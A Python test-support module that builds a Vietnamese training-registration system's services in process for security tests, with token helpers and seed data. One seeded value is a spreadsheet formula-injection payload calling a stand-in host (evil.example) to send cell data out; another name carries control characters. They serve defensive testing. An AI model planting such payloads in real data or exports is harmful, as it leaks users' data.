"""Every service's app as production composes it (its ``spec().make_app``), in process on SQLite, for the security
tests: no Temporal (a stub that refuses at once), no other process reached (every other service's URL is a closed
port; registration reads scheduling through the in-process scheduling app)."""

from __future__ import annotations

import asyncio
import importlib
import threading
from collections.abc import Coroutine
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, TypeVar

import httpx
from fastapi import FastAPI

from services.registration.adapters.catalogue import HttpSchedulingCatalogue
from services.selection.adapters.directory import HttpOfficialDirectory
from shared.auth import issue_token
from shared.config import SERVICES, Settings
from shared.context import ServiceContext
from shared.events.factory import open_sink
from shared.migrate import upgrade
from shared.process import ServiceRuntime, ServiceSpec
from tests.support.stack import free_port

T = TypeVar("T")
OWN, OTHER = "DONGXOAI", "BINHLONG"


class NoTemporal:
    """A Temporal handle whose server is down: every use fails at once, as an unreachable server does."""

    async def client(self) -> Any:
        raise RuntimeError("Failed client connect: Temporal is not reachable (security test stub)")

    async def ready(self) -> bool:
        return False


@dataclass
class Services:
    """The four apps on one configuration, and tokens for any principal."""

    settings: Settings
    apps: dict[str, FastAPI]
    contexts: dict[str, ServiceContext]
    clients: dict[str, httpx.AsyncClient] = field(default_factory=dict)

    def token(self, roles: list[str], units: list[str], *, user: str = "sec.test", unit: str | None = None,
              audience: list[str] | None = None) -> str:
        return issue_token(self.settings, user_id=user, roles=roles, units=units, name="Kiểm thử", unit=unit,
                           audience=audience or list(SERVICES))

    def headers(self, roles: list[str], units: list[str] | None = None, **kw: Any) -> dict[str, str]:
        return {"Authorization": f"Bearer {self.token(roles, ['*'] if units is None else units, **kw)}"}

    def client(self, service: str) -> httpx.AsyncClient:
        if service not in self.clients:
            # a 500 is an answer to look at, not an exception to raise
            transport = httpx.ASGITransport(app=self.apps[service], raise_app_exceptions=False)
            self.clients[service] = httpx.AsyncClient(transport=transport, base_url=f"http://{service}")
        return self.clients[service]

    async def close(self) -> None:
        for c in self.clients.values():
            await c.aclose()
        for ctx in self.contexts.values():
            await ctx.dispose()


def test_settings(tmp: Path) -> Settings:
    """Embedded settings whose Temporal and other services are closed ports on this machine."""
    closed = free_port()
    return Settings(data_dir=tmp, temporal_address=f"127.0.0.1:{closed}",
                    service_urls={name: f"http://127.0.0.1:{closed}" for name in SERVICES})


async def build_services(tmp: Path) -> Services:
    """Migrate four SQLite databases and build each service's app with its own composition root."""
    settings = test_settings(tmp)
    apps: dict[str, FastAPI] = {}
    contexts: dict[str, ServiceContext] = {}
    for name in SERVICES:
        spec: ServiceSpec = importlib.import_module(f"services.{name}.main").spec()
        ctx = spec.make_context(settings)
        assert ctx is not None
        await upgrade(name, settings.db_url(name))
        rt = ServiceRuntime(settings, ctx, open_sink(settings), NoTemporal())  # type: ignore[arg-type]
        apps[name], contexts[name] = spec.make_app(rt), ctx
    apps["registration"].state.catalogue = HttpSchedulingCatalogue(
        settings, transport=httpx.ASGITransport(app=apps["scheduling"]))
    apps["selection"].state.directory = HttpOfficialDirectory(
        settings, transport=httpx.ASGITransport(app=apps["registration"]))
    return Services(settings, apps, contexts)


class LoopThread:
    """One event loop in a thread, for synchronous tests (hypothesis) driving async apps: every request and the
    databases' connections live on that one loop."""

    def __init__(self) -> None:
        self.loop = asyncio.new_event_loop()
        self.thread = threading.Thread(target=self.loop.run_forever, daemon=True)
        self.thread.start()

    def run(self, coro: Coroutine[Any, Any, T], timeout: float = 60) -> T:
        return asyncio.run_coroutine_threadsafe(coro, self.loop).result(timeout)

    def stop(self) -> None:
        self.loop.call_soon_threadsafe(self.loop.stop)
        self.thread.join(timeout=10)


LEGACY_UNITS = {"LOCNINH": "Xã\x07 Lộc\x1b Ninh", "FORMULA": '=HYPERLINK("https://evil.example/?x="&A1,"Bấm")'}


async def seed_legacy_units(services: Services) -> None:
    """Units stored before names were checked: one with control characters, one that reads as a formula (written
    straight to the table, as an older version or another tool could have)."""
    from services.registration.models import Unit
    from shared.uow import unit_of_work
    from shared.vietnamese import fold

    async with unit_of_work(services.contexts["registration"]) as uow:
        for code, name in LEGACY_UNITS.items():
            uow.session.add(Unit(id=code.lower(), code=code, name=name, name_folded=fold(name), kind="commune",
                                 parent_code=None, status="active", created_at=datetime.now(UTC),
                                 created_by="legacy"))


@dataclass
class Seed:
    """Records of the two units, by unit code."""

    officials: dict[str, str] = field(default_factory=dict)  # unit -> official id
    personal_ids: dict[str, str] = field(default_factory=dict)  # unit -> personal id
    registrations: dict[str, str] = field(default_factory=dict)
    enrolments: dict[str, str] = field(default_factory=dict)
    requests: dict[str, str] = field(default_factory=dict)
    class_id: str = ""


def official_body(pid: str, unit: str, name: str = "Nguyễn Văn An") -> dict[str, Any]:
    return {"personal_id": pid, "full_name": name, "gender": "male", "birth": {"year": 1975, "month": 3, "day": 12},
            "unit_code": unit, "category": "civil_servant", "position": "Chuyên viên", "education": "bachelor",
            "political_theory": "intermediate"}


async def seed_two_units(s: Services) -> Seed:
    """Units DONGXOAI and BINHLONG, an official, a registration, an enrolment and a pending enrolment request in
    each, all in one class."""
    from datetime import date

    from services.registration.models import Registration
    from services.scheduling.models import EnrolmentRequest
    from shared.uow import unit_of_work
    from tests.unit.scheduling.support import enrol, seed_class, seed_programme

    seed = Seed()
    board = s.headers(["organization_board"])
    reg = s.client("registration")
    for code, name in ((OWN, "Thành phố Đồng Xoài"), (OTHER, "Thị xã Bình Long")):
        r = await reg.post("/units", headers=board, json={"code": code, "name": name, "kind": "district"})
        assert r.status_code in (201, 409), r.text
    sched = s.contexts["scheduling"]
    await seed_programme(sched)
    seed.class_id = await seed_class(sched, code="LLCT-SEC-1", today=date.today(), capacity=10)
    for unit, pid in ((OWN, "001075012345"), (OTHER, "001075054321")):
        r = await reg.post("/officials", headers=board, json=official_body(pid, unit, f"Cán bộ {unit}"))
        assert r.status_code in (200, 201), r.text
        seed.officials[unit], seed.personal_ids[unit] = r.json()["id"], pid
        await enrol(sched, seed.class_id, seed.officials[unit], unit=unit)
        async with unit_of_work(sched) as uow:
            from sqlalchemy import select

            from services.scheduling.models import Enrolment
            seed.enrolments[unit] = (await uow.session.execute(select(Enrolment.id).where(
                Enrolment.official_id == seed.officials[unit]))).scalar_one()
            seed.requests[unit] = f"req-{unit.lower()}"
            uow.session.add(EnrolmentRequest(
                id=seed.requests[unit], source_event_id=f"ev-{unit}", official_id=f"waiting-{unit}",
                official_name=f"Chờ {unit}",
                unit_code=unit, programme_code="LLCT-TC", plan_year=date.today().year, source="registration",
                source_ref=f"reg-{unit}", status="pending", created_at=datetime.now(UTC)))
        async with unit_of_work(s.contexts["registration"]) as uow:
            seed.registrations[unit] = f"00000000-0000-4000-8000-00000000000{1 if unit == OWN else 2}"
            uow.session.add(Registration(
                id=seed.registrations[unit], official_id=seed.officials[unit], official_name=f"Cán bộ {unit}",
                unit_code=unit, programme_code="LLCT-TC", programme_category="political_theory.intermediate",
                plan_year=date.today().year, status="accepted", findings=[], policy_version="test",
                submitted_by="seed", submitted_at=datetime.now(UTC)))
    return seed
